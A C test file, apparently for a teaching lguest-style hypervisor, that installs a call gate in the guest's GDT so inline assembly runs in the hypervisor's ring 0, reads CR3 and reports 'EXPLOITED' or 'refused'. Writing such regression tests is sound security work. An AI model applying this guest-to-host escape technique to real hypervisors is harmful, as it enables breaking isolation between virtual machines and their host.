/*
 * adversary_gate.c - [Testguest 22] "test=gdt-ring0": the call-gate
 * escape carried all the way into ring 0, with proof.
 *
 * adversary.c's gdt-call-gate only shows that the far call faults.  This
 * one is the exploit a student writes against a hypervisor that keeps
 * system descriptors (the lguest reference did; docs/labs/call-gate.md):
 * a call gate in our GDT slot whose target is the hypervisor's own
 * ring-0 code segment (selector 0x50, base 0) at the address of a few
 * instructions of ours.  If the gate survives, "lcall" runs them in
 * ring 0 on the hypervisor's stack (the TSS's ESP0): they read CS and
 * CR3 (which ring 1 cannot) and "lret" back to ring 1.  Then we say
 * "EXPLOITED", with the hypervisor's page-directory address as proof.
 * A hypervisor that zeroes system descriptors (segments.c) turns the
 * call into a fault passed back to us, and we say "refused".
 *
 * Interrupts are off in ring 0 (the first instruction there), so none
 * is taken on the hypervisor's stack.  Everything the ring-0 code
 * touches is mapped before the call: a page fault there would be the
 * hypervisor's.
 */
#include <stdint.h>

#include "paravirt-guest/console.h"
#include "paravirt-guest/guest.h"
#include "paravirt-guest/hcall.h"
#include "paravirt-guest/idt.h"
#include "paravirt-guest/trap.h"
#include "paravirt-guest/x86.h"

#include "testguest.h"

#define GATE_SLOT 21			  /* a PnP BIOS slot, unused by us */
#define GATE_SELECTOR (GATE_SLOT * 8 + 1) /* 0xa9: RPL 1 */
#define HV_CODE_SELECTOR 0x50		  /* GDT 10: the hypervisor's CS */

/* What the ring-0 code saw, written there, read here. */
volatile uint32_t ring0_cs, ring0_cr3;
extern const char ring0_code[];

asm(".text\n"
    ".globl ring0_code\n"
    "ring0_code:\n\t"
    "pushfl\n\t"
    "cli\n\t"
    "movl %cs, %eax\n\t"
    "movl %eax, ring0_cs\n\t"
    "movl %cr3, %eax\n\t"
    "movl %eax, ring0_cr3\n\t"
    "popfl\n\t"
    "lret\n");

static void gdt_ring0(void)
{
	printf("guest: test: call gate to 0x%x:%p in GDT slot %d\n",
	       HV_CODE_SELECTOR, (void *)ring0_code, GATE_SLOT);
	/* Map what ring 0 will touch: our variables (written, so the
	 * shadow entries are writable) and the code (read). */
	ring0_cs = 0;
	ring0_cr3 = 0;
	(void)*(volatile const char *)ring0_code;
	hcall(LHCALL_LOAD_GDT_ENTRY, GATE_SLOT,
	      gate_lo(HV_CODE_SELECTOR, (uint32_t)ring0_code),
	      gate_hi((uint32_t)ring0_code, 1, GATE_CALL));
	fixup_vector = -1;
	asm volatile("1: lcall %0, $0\n\t"
		     "2:\n\t" FIXUP("1b", "2b")
		     :
		     : "i"(GATE_SELECTOR)
		     : "eax", "memory");
	if (fixup_vector >= 0) {
		printf("guest: gdt-ring0: call gate refused (trap %d)\n",
		       fixup_vector);
		guest_poweroff("call gate refused");
	}
	printf("guest: gdt-ring0: EXPLOITED: ran in ring %u (CS 0x%x), "
	       "read CR3 0x%x (our shadow page directory's machine "
	       "address)\n",
	       ring0_cs & 3, ring0_cs, ring0_cr3);
	guest_poweroff("EXPLOITED: ring 0 reached");
}

void adversary_gate_run(const char *name)
{
	if (!word_equals(name, "gdt-ring0"))
		return;
	guest_connect();
	idt_init();
	gdt_ring0();
}
